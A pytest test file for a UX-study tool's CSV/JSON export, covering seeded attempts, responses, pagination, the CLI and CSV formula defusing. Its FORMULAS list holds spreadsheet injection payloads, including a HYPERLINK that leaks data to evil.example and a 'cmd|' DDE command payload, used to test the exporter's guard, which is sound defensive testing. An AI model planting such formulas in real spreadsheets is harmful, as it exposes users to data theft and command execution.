"""Exports: CSV and JSON rows match the seeded attempts and responses, on both databases."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from flask import Flask

from tests.results_seed import FREE_TEXT, _begin, _events, seed_results
from uxlab.cli import cli
from uxlab.db import database_url, get_session
from uxlab.errors import NotFound
from uxlab.participants import sessions, sweep
from uxlab.reports import export

ANA_FIRST = {
    "study": "shop",
    "version": 1,
    "device": "desktop",
    "language": "en",
    "task": "find-helpdesk",
    "task_position": 0,
    "stage": "retention",
    "outcome": "success",
    "abandoned": False,
    "did_not_open": False,
    "time_on_task_s": 12.5,
    "click_count": 2,
    "path": ["/", "/support", "/support/helpdesk"],
    "direct": True,
    "answer": None,
    "seq": 6,
    "link_params": None,
    "completion_code": None,
    "excluded": False,
    "exclusion_reason": None,
}


def _without_times(row: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in row.items() if k not in {"participant", "started_at", "ended_at"}}


def _seconds(start: str, end: str) -> float:
    return (datetime.fromisoformat(end[:-1]) - datetime.fromisoformat(start[:-1])).total_seconds()


def _export(app: Flask, fmt: str, what: str = "all") -> str:
    out = io.StringIO()
    with app.app_context():
        export.export_study(get_session(), "shop", out, fmt, what)
    return out.getvalue()


def test_json_export_holds_every_attempt_and_response(any_app: Flask, tmp_path: Path) -> None:
    with any_app.app_context():
        seeded = seed_results(get_session(), tmp_path)
    data = json.loads(_export(any_app, "json"))
    assert data["study"] == "shop"
    attempts = data["attempts"]
    assert _without_times(attempts[0]) == ANA_FIRST
    assert [(a["participant"], a["task"], a["outcome"]) for a in attempts] == [
        (seeded.ana, "find-helpdesk", "success"),
        (seeded.ana, "hotline", "success"),
        (seeded.ben, "find-helpdesk", "give_up"),
        (seeded.ben, "hotline", None),
    ]
    assert _seconds(attempts[0]["started_at"], attempts[0]["ended_at"]) == 12.5
    assert (attempts[1]["answer"], attempts[1]["time_on_task_s"], attempts[1]["seq"]) == (
        "+1 555 0100",
        30.0,
        5,
    )
    assert (attempts[2]["device"], attempts[2]["click_count"], attempts[2]["seq"]) == ("phone", 4, 2)
    assert attempts[2]["path"] == ["/", "/products", "/about"]
    assert attempts[3]["ended_at"] is None and attempts[3]["time_on_task_s"] is None
    responses = data["responses"]
    assert [(r["participant"], r["questionnaire"], r["item"], r["value"], r["text"]) for r in responses] == [
        (seeded.ana, "free_text", 1, None, FREE_TEXT),
        (seeded.ana, "nps", 1, 9, None),
    ]
    assert {r["version"] for r in responses} == {1}
    assert all(r["answered_at"].endswith("Z") for r in responses)


def test_an_abandoned_attempt_is_marked_in_the_export(any_app: Flask, tmp_path: Path) -> None:
    """Ben closed his tab in his second task: the sweep ends it as a timeout marked abandoned."""
    with any_app.app_context():
        db = get_session()
        seed_results(db, tmp_path)
        assert sweep.end_overdue(db, now=datetime.now(UTC) + timedelta(days=1)) == 1
    attempts = json.loads(_export(any_app, "json"))["attempts"]
    marks = [(a["outcome"], a["abandoned"], a["did_not_open"]) for a in attempts]
    assert marks == [("success", False, False)] * 2 + [("give_up", False, False), ("timeout", True, False)]
    rows = list(csv.DictReader(io.StringIO(_export(any_app, "csv", "attempts"))))
    assert [(r["outcome"], r["abandoned"]) for r in rows][-1] == ("timeout", "true")


def test_csv_export_has_both_tables(any_app: Flask, tmp_path: Path) -> None:
    with any_app.app_context():
        seeded = seed_results(get_session(), tmp_path)
    attempts_part, responses_part, questions_part, sessions_part = _export(any_app, "csv").split("\n\n")
    assert (
        questions_part == ",".join(export.QUESTION_COLUMNS)  # the "\n" ends it, the next one separates
    )  # this study asks no questions of its own
    attempts = list(csv.DictReader(io.StringIO(attempts_part)))
    responses = list(csv.DictReader(io.StringIO(responses_part)))
    assert [r["participant"] for r in csv.DictReader(io.StringIO(sessions_part))] == [seeded.ana, seeded.ben]
    assert tuple(attempts[0]) == export.ATTEMPT_COLUMNS
    assert len(attempts) == 4
    assert attempts[0]["path"] == "/ > /support > /support/helpdesk"
    assert attempts[0]["time_on_task_s"] == "12.5"
    assert attempts[0]["direct"] == "true"
    assert attempts[0]["participant"] == seeded.ana
    assert attempts[2]["time_on_task_s"] == "60.0"
    assert attempts[3]["time_on_task_s"] == attempts[3]["outcome"] == ""
    assert attempts[2]["device"] == "phone"
    assert [(r["questionnaire"], r["value"], r["text"]) for r in responses] == [
        ("free_text", "", FREE_TEXT),
        ("nps", "9", ""),
    ]


def test_csv_single_table(app: Flask, tmp_path: Path) -> None:
    with app.app_context():
        seed_results(get_session(), tmp_path)
    text = _export(app, "csv", "responses")
    assert text.splitlines()[0] == ",".join(export.RESPONSE_COLUMNS)
    assert "\n\n" not in text
    assert len(list(csv.DictReader(io.StringIO(text)))) == 2


def test_attempt_pages(app: Flask, tmp_path: Path) -> None:
    with app.app_context():
        db = get_session()
        seeded = seed_results(db, tmp_path)
        assert export.count_attempts(db, "shop") == 4
        page = list(export.iter_attempt_rows(db, "shop", offset=2, limit=2))
        assert [row["participant"] for row in page] == [seeded.ben, seeded.ben]


def test_unknown_study_is_not_found(app: Flask) -> None:
    with app.app_context(), pytest.raises(NotFound, match="no study 'nope'"):
        export.export_study(get_session(), "nope", io.StringIO(), "json")


def test_cli_export_writes_a_file(app: Flask, tmp_path: Path) -> None:
    with app.app_context():
        seed_results(get_session(), tmp_path)
    env = {"UXLAB_DATABASE_URL": database_url(app)}
    target = tmp_path / "shop.json"
    result = CliRunner().invoke(cli, ["export", "shop", "--format", "json", "-o", str(target)], env=env)
    assert result.exit_code == 0, result.output
    assert "wrote 8 rows" in result.output  # 4 attempts, 2 responses, 2 sessions
    assert _without_times(json.loads(target.read_text(encoding="utf-8"))["attempts"][0]) == ANA_FIRST
    result = CliRunner().invoke(cli, ["export", "nope", "-o", str(tmp_path / "nope.csv")], env=env)
    assert result.exit_code == 1
    assert "uxlab: no study 'nope'" in result.output
    assert not (tmp_path / "nope.csv").exists()
    assert not (tmp_path / "nope.csv.part").exists()
    result = CliRunner().invoke(cli, ["export", "shop", "--what", "attempts"], env=env)
    assert result.exit_code == 0
    assert result.output.startswith(",".join(export.ATTEMPT_COLUMNS) + "\n")


# Typed answers a spreadsheet would run as formulas: each leading character of the guard.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
)


def test_cli_csv_export_defuses_formula_cells(any_app: Flask, tmp_path: Path) -> None:
    with any_app.app_context():
        db = get_session()
        seed_results(db, tmp_path)
        version = sessions.find_study(db, "shop")[1]
        for formula in FORMULAS:  # each typed by a participant, through the events API's path
            participant = sessions.start_session(db, version, "", "en")
            _events(db, _begin(db, participant, 1), 5.0, {"type": "answer", "answer": formula})
    target = tmp_path / "shop.csv"
    env = {"UXLAB_DATABASE_URL": database_url(any_app)}
    result = CliRunner().invoke(cli, ["export", "shop", "--what", "attempts", "-o", str(target)], env=env)
    assert result.exit_code == 0, result.output
    with target.open(encoding="utf-8", newline="") as stream:
        answers = [row["answer"] for row in csv.DictReader(stream)]
    assert [a for a in answers if a not in {"", "+1 555 0100"}] == ["'" + f for f in FORMULAS]
    assert "+1 555 0100" in answers  # a phone number is data, not a formula: left as it is


def test_csv_cells_defuse_formulas() -> None:
    cell = export.csv_cell
    assert cell('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert cell("@SUM(A1)") == "'@SUM(A1)"
    assert cell("+1 555 0100") == "+1 555 0100"  # a phone number stays as it is
    assert cell(["/", "/about"]) == "/ > /about"
    assert (cell(None), cell(True), cell(3)) == ("", "true", 3)
